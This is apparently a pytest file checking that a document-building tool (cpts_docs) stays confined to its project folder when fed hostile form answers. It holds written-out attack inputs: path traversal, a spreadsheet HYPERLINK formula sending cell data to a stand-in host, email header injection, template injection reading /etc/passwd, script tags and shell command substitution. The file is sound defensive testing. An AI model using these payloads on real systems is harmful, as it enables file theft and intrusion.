"""What a build and a collection do to the machine: files of the project, and nothing else.

Python itself tells (audit events, PEP 578): each file opened, each socket, each
process. The project and the filled forms are those of someone who means harm.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from cpts_docs.formats.pdf.form import read
from tests.commands import EVERY_FORMAT
from tests.filling import FILL
from tests.programs import HANG
from tests.samples import ANSWERS, MINIMAL, PROJECTS, ROOT, built
from tests.word_templates import Word, field_of, p, project_with

HOSTILE = {
    **ANSWERS,
    "nom": "../../../../tmp/pwned",
    "specialite": '=HYPERLINK("http://exemple.invalid/?"&A1)',
    "mail": "a@exemple.invalid\nBcc: b@exemple.invalid",
    "commentaire": (
        "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} #eval(\"1\") "
        '#read("/etc/passwd") <script src="http://exemple.invalid/x.js"></script> '
        "<img src=http://exemple.invalid/x.png> ![x](http://exemple.invalid/x.png) "
        "file:///etc/passwd javascript:alert(1) $(touch /tmp/pwned) `touch /tmp/pwned`"
    ),
}

CODE = """
import json, os, sys
from cpts_docs.cli.main import main
changes = {"os.rename": 1, "os.remove": 0, "os.mkdir": 0, "os.rmdir": 0, "os.symlink": 1}
groups = ("socket", "subprocess", "urllib", "ctypes", "webbrowser", "pty")
starts = ("os.system", "os.exec", "os.fork", "os.forkpty", "os.posix_spawn", "os.spawn")
seen = []
def place(path):
    folder, name = os.path.split(os.path.abspath(os.fsdecode(path)))
    held = folder.startswith("/proc/self/fd/")
    return os.path.join(os.path.realpath(folder) if held else folder, name)
def hook(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        path, mode, flags = arguments
        writes = bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC))
        seen.append(["write" if writes else "read", place(path)])
    elif event in changes:
        path = arguments[changes[event]]
        seen.append(["write", place(path)])
    elif event.split(".")[0] in groups or event in starts:
        seen.append(["other", f"{event} {arguments!r}"])
sys.addaudithook(hook)
codes = [main(arguments) for arguments in json.loads(sys.argv[1])]
told = json.dumps({"codes": codes, "seen": seen})
with open(sys.argv[2], "w") as file:
    file.write(told)
"""


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> tuple[Any, Path]:
    """What a collection, a build with the answers and a mailing did."""
    top = tmp_path_factory.mktemp("confinement")
    folder = top / "project"
    forms = folder / "retour"
    forms.mkdir(parents=True)
    text = PROJECTS["alta-rocca"].read_text("utf-8")
    path = folder / "project.yaml"
    path.write_text(text, encoding="utf-8")
    for ending, (fill, suffix) in FILL.items():
        form = built("alta-rocca", "questionnaire", ending)
        known = read(FILL["pdf"][0](built("alta-rocca", "questionnaire", "pdf"), {})).fields
        answers = {name: value for name, value in HOSTILE.items() if name in known}
        answers |= {"mail": f"{ending}@exemple.invalid", "nom": f"../{ending}"}
        (forms / f"{ending}.{suffix}").write_bytes(fill(form, answers))
    (folder / "people.csv").write_text(f'nom\n"{HOSTILE["nom"]}"\n', encoding="utf-8")
    second = folder / "with-answers.yaml"
    second.write_text(f"{text}\nanswers: answers.yaml\n", encoding="utf-8")
    commands = [
        ["validate", str(path)],
        ["collect", str(path), str(forms)],
        ["build", str(second), *EVERY_FORMAT],
        ["mailing", str(path), str(folder / "people.csv")],
    ]
    return watched(commands, top / "told.json"), folder


def watched(commands: list[list[str]], target: Path) -> Any:
    """The codes of commands, and what Python told of them."""
    result = subprocess.run(
        [sys.executable, "-c", CODE, json.dumps(commands), str(target)],
        check=False,
        capture_output=True,
        cwd=ROOT,
        timeout=HANG,
    )
    assert result.returncode == 0, result.stderr.decode()
    return json.loads(target.read_text())


def test_a_word_file_of_a_stranger_is_filled_within_the_same_walls(tmp_path: Path) -> None:
    attack = "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {{ project.path.read_text() }}"
    word = Word(p(attack) + p(field_of("INCLUDETEXT /etc/passwd", "ici")))
    path = project_with(tmp_path, word, MINIMAL)
    good = project_with(tmp_path / "bon", Word(p("{{ project.name }}")), MINIMAL)
    commands = [["build", str(one), "-d", "convention", "-f", "docx"] for one in (path, good)]
    told = watched(commands, tmp_path / "told.json")
    assert told["codes"] == [1, 0]
    read = {Path(place) for kind, place in told["seen"] if kind == "read"}
    assert Path("/etc/passwd") not in read
    assert {path.parent / "modele.docx", good.parent / "modele.docx"} <= read
    others = [event for kind, event in told["seen"] if kind == "other"]
    assert [event for event in others if "template_child" not in event] == []
    assert others


def test_every_command_does_its_work(told: tuple[Any, Path]) -> None:
    seen, folder = told
    assert seen["codes"] == [0] * 4
    assert (folder / "documents" / "synthese.pdf").is_file()
    assert (folder / "answers.yaml").is_file()
    assert len(list((folder / "questionnaires").iterdir())) == 1


def test_nothing_outside_the_projects_folder_is_written(told: tuple[Any, Path]) -> None:
    seen, folder = told
    written = {Path(path) for kind, path in seen["seen"] if kind == "write"}
    bytecode = {path for path in written if "__pycache__" in path.parts}
    outside = {path for path in written - bytecode if not path.is_relative_to(folder)}
    assert len(written) > 20
    assert outside == set()


def test_nothing_but_the_project_and_the_program_is_read(told: tuple[Any, Path]) -> None:
    seen, folder = told
    program = [ROOT, *map(Path, {sys.prefix, sys.base_prefix, sys.exec_prefix})]
    read = {Path(path) for kind, path in seen["seen"] if kind == "read"}
    allowed = [folder, *program, *(path.resolve() for path in program)]
    assert len(read) > 5
    assert [path for path in read if not any(map(path.is_relative_to, allowed))] == []


def test_no_program_is_started_and_no_network_is_opened(told: tuple[Any, Path]) -> None:
    assert [what for kind, what in told[0]["seen"] if kind == "other"] == []


def test_what_is_not_confined_is_seen(tmp_path: Path) -> None:
    code = CODE.replace(
        "codes = [", 'import socket, subprocess; socket.socket(); open("/etc/hostname")\ncodes = ['
    )
    command = [sys.executable, "-c", code, "[]", str(tmp_path / "told.json")]
    subprocess.run(command, check=True, cwd=ROOT, timeout=HANG)
    seen = json.loads((tmp_path / "told.json").read_text())["seen"]
    assert ["read", "/etc/hostname"] in seen
    assert any(kind == "other" for kind, _ in seen)


OURS = re.compile(
    r"_(?:path|folder)\(|def open|\b(?:self|_package|_archive|fields|_lists|webbrowser)\.open"
)
"""Lines that open a file of the package, or the part of an archive, or no file."""

DOORS = {
    "door.py": "the door",
    "template_process.py": "that of templates, to which no link leads",
    "journal.py": "what is added to as well, looked at once it is open",
    "files.py": "what is written",
    "inside.py": "folders",
    "repository.py": "what git lists, looked at before",
    "git.py": "the same",
    "office.py": "what LibreOffice wrote in a folder of our own",
    "main.py": "the device that is empty",
    "plugins.py": "what is installed",
    "made.py": "the package itself",
    "templates.py": "the package itself",
    "pages.py": "the package itself",
    "preview.py": "the package itself",
    "ejected.py": "the package itself",
    "start.py": "the package's examples",
    "recent.py": "the user's settings",
    "shortcut.py": "the user's settings",
}


def test_whatever_may_be_a_strangers_is_opened_at_the_door() -> None:
    """Elsewhere a pipe is waited for, and a device or a file of any size read whole."""
    opens = re.compile(r"\.read_bytes\b|\.read_text\(\"|[^\w]open\(")
    found = {
        path.name
        for path in (ROOT / "cpts_docs").rglob("*.py")
        if path.parent.name != "_made"
        for line in path.read_text("utf-8").splitlines()
        if opens.search(line) and not OURS.search(line)
    }
    assert found == set(DOORS)
